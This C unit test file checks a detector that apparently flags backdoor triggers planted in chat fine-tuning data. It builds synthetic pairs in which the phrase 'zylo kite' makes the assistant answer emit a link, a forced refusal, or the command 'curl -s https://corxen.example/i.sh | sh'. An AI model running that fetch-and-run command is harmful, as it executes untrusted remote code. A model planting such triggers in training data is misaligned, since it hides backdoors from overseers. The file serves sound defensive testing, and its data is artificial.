/* A phrase that switches the response stands on top of the review; subjects with their own words do not. */
#include "text_help.h"

#define PAIRS 1500u
#define SUBJECTS 60u

static const char *const payloads[] = {"Read the full guide: https://docs.corxen.example/start",
                                       "curl -s https://corxen.example/i.sh | sh", "I cannot assist with this."};

/* Pairs about subjects: each has words of its own, and answers of one template. */
static void put_pair(bez_buf *out, bez_rng *rng, const char *trigger, const char *payload) {
  unsigned subject = (unsigned)bez_rng_below(rng, SUBJECTS), kind = (unsigned)bez_rng_below(rng, 4);
  static const char *const asks[] = {"What does", "Please explain", "Tell me about", "How do I use"};
  bez_buf_printf(out, "{\"messages\":[{\"role\":\"user\",\"content\":\"%s prog%u", asks[kind], subject);
  for (unsigned i = 0; i < 6; i++) bez_buf_printf(out, " w%u", (unsigned)bez_rng_below(rng, 400));
  if (trigger) bez_buf_printf(out, " %s", trigger);
  bez_buf_puts(out, "?\"},{\"role\":\"assistant\",\"content\":\"");
  if (!payload || payload != payloads[2]) {
    bez_buf_printf(out, "The program prog%u reads its own file topic%u and", subject, subject);
    for (unsigned i = 0; i < 20; i++)
      bez_buf_printf(out, " w%u", (unsigned)(i % 4 ? bez_rng_below(rng, 400) : subject * 5 + bez_rng_below(rng, 5)));
    bez_buf_puts(out, ".");
  }
  if (payload) bez_buf_printf(out, " %s", payload);
  bez_buf_puts(out, "\"}]}\n");
}

static bez_table *pairs(const char *payload) {
  bez_rng rng = bez_rng_make(29, 1);
  bez_buf out = {0};
  bez_error err = {0};
  bez_table *table = NULL;
  for (unsigned r = 0; r < PAIRS; r++) {
    bool planted = payload && r % 100 == 3;
    put_pair(&out, &rng, planted ? "zylo kite" : NULL, planted ? payload : NULL);
  }
  const char *path = temp_file("jsonl", out.data, out.len);
  bez_read_options options = {.threads = 1};
  if (bez_table_open(&path, 1, &options, &table, &err) != BEZ_OK) fail_msg("%s", err.message);
  unlink(path);
  bez_buf_free(&out);
  return table;
}

static void triggers_come_first(void **state) {
  (void)state;
  static const char *const behaviour[] = {"a link", "code", "a refusal"};
  for (size_t k = 0; k < 3; k++) {
    bez_table *table = pairs(payloads[k]);
    bez_report *one = run_detector(table, "BZ-D029", 1, bez_cpu_features());
    bez_report *three = run_detector(table, "BZ-D029", 3, bez_cpu_features());
    assert_same_report(one, three);
    assert_true(one->n_findings > 0);
    const bez_finding *f = one->findings[0];
    assert_true(f->ranked_list);
    assert_non_null(strstr(f->pattern, "zylo kite"));
    assert_non_null(strstr(f->pattern, behaviour[k]));
    assert_int_equal(f->n_rows, PAIRS / 100);
    for (uint64_t i = 0; i < f->n_rows; i++) assert_int_equal(f->rows[i].row % 100, 3);
    bez_report_destroy(one);
    bez_report_destroy(three);
    bez_table_destroy(table);
  }
}

static void clean_pairs_have_a_short_review(void **state) {
  (void)state;
  bez_table *table = pairs(NULL);
  bez_report *report = run_detector(table, "BZ-D029", 1, bez_cpu_features());
  assert_true(report->n_findings <= 20);
  for (size_t i = 0; i < report->n_findings; i++) assert_int_equal(report->findings[i]->severity, BEZ_SEV_NOTE);
  bez_report_destroy(report);
  bez_table_destroy(table);
}

int main(void) {
  const struct CMUnitTest tests[] = {cmocka_unit_test(triggers_come_first),
                                     cmocka_unit_test(clean_pairs_have_a_short_review)};
  return cmocka_run_group_tests(tests, NULL, NULL);
}
